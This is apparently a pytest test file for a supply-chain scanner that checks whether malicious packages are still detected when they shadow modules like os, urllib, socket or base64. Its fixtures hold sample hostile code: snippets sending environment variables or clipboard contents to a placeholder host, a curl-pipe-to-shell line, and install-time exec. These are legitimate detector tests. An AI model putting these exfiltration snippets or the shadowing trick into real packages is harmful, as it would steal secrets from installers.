"""A file that bears the name of a library does not take its place, and hides nothing of its own either."""

import json

import pytest
from attack_files import sdist, tar

from ostiary.core.examination import Examination
from ostiary.program.flow import Act, Taint
from ostiary.program.model import Program

SENDS = """import os, urllib.request
def api():
    urllib.request.urlopen("https://c.example.invalid/", data=repr(dict(os.environ)).encode())
"""
RAW = """import socket, os
def api():
    socket.create_connection(("c.example.invalid", 1)).sendall(repr(dict(os.environ)).encode())
"""
COPIES = """import pyperclip, urllib.request
def api():
    urllib.request.urlopen("https://c.example.invalid/", data=pyperclip.paste().encode())
"""
NOTHING = "environ = {}\n"
OPENS = "def create_connection(*a):\n    return open('/dev/null')\n"
PASTE = "def paste():\n    return ''\n"
URLLIB = "class request:\n    urlopen = staticmethod(lambda *a, **k: None)\n"
RUN = "import os; os.system('curl https://c.example.invalid/x | sh')"
SETUP = "from setuptools import setup\nsetup(name='pkg', version='1.0')\n"


def _sent(found: Examination) -> set[str]:
    (program,) = (one for one in found.facts if isinstance(one, Program))
    return {one.kind for flow in program.flows if flow.act is Act.SEND for one in flow.carries}


@pytest.mark.parametrize(
    "files",
    [
        {"pkg/os.py": NOTHING, "pkg/core.py": SENDS},
        {"os.py": NOTHING, "pkg/core.py": SENDS, "setup.py": SETUP},
        {"tests/os.py": NOTHING, "pkg/core.py": SENDS},
        {"docs/a/os.py": NOTHING, "pkg/core.py": SENDS},
        {"pkg/compat/os.py": NOTHING, "pkg/core.py": SENDS},
        {"pkg/urllib.py": URLLIB, "pkg/core.py": SENDS},
        {"urllib.py": URLLIB, "pkg/core.py": SENDS, "setup.py": SETUP},
        {"os/__init__.py": NOTHING, "pkg/core.py": SENDS, "setup.py": SETUP},
        {"docs/socket.py": OPENS, "pkg/core.py": RAW},
        {"socket.py": OPENS, "pkg/core.py": RAW, "setup.py": SETUP},
    ],
    ids=" ".join,
)
def test_the_library_keeps_its_name(files: dict[str, str]) -> None:
    assert Taint.ENVIRONMENT in _sent(sdist(files))


@pytest.mark.parametrize("place", ["tests/pyperclip.py", "docs/a/pyperclip.py"])
def test_an_installed_library_keeps_its_name(place: str) -> None:
    assert Taint.CLIPBOARD in _sent(sdist({place: PASTE, "pkg/core.py": COPIES}))


@pytest.mark.parametrize(
    ("module", "setup"),
    [
        (f"def load(): return {RUN!r}\n", "import base64\nexec(base64.load())\n"),
        (f"text = {RUN!r}\n", "from base64 import text\nexec(text)\n"),
        (f"text = {RUN!r}\n", "from base64 import *\nexec(text)\n"),
        (f"def b64decode(x):\n    {RUN}\n", "import base64\nbase64.b64decode('')\n"),
    ],
)
def test_what_lies_beside_the_installer_is_run_as_well(module: str, setup: str) -> None:
    found = sdist({"base64.py": module, "setup.py": setup + SETUP})
    (program,) = (one for one in found.facts if isinstance(one, Program))
    assert any(one.act is Act.RUN and one.reach == "install" for one in program.flows)


def test_what_is_relative_is_the_file_beside() -> None:
    core = "from .os import text\nexec(text)\n"
    for folder in ("pkg", "tools"):
        found = sdist({f"{folder}/core.py": core, f"{folder}/os.py": f"text = {RUN!r}\n"})
        (program,) = (one for one in found.facts if isinstance(one, Program))
        assert any(one.act is Act.RUN for one in program.flows)


@pytest.mark.parametrize("name", ["https", "node:https"])
def test_node_never_looks_into_a_folder_for_its_own(name: str) -> None:
    code = f"""const h = require({name!r});
const r = h.request("https://a.example.invalid/", {{method: "POST"}});
r.write(JSON.stringify(process.env)); r.end();
"""
    files = {
        "package.json": json.dumps({"name": "pkg", "version": "1.0.0", "main": "index.js"}),
        "index.js": code,
        "node_modules/https/index.js": "exports.request = () => ({write() {}, end() {}});\n",
    }
    found = tar("pkg-1.0.0.tgz", {f"package/{path}": text for path, text in files.items()})
    assert Taint.ENVIRONMENT in _sent(found)
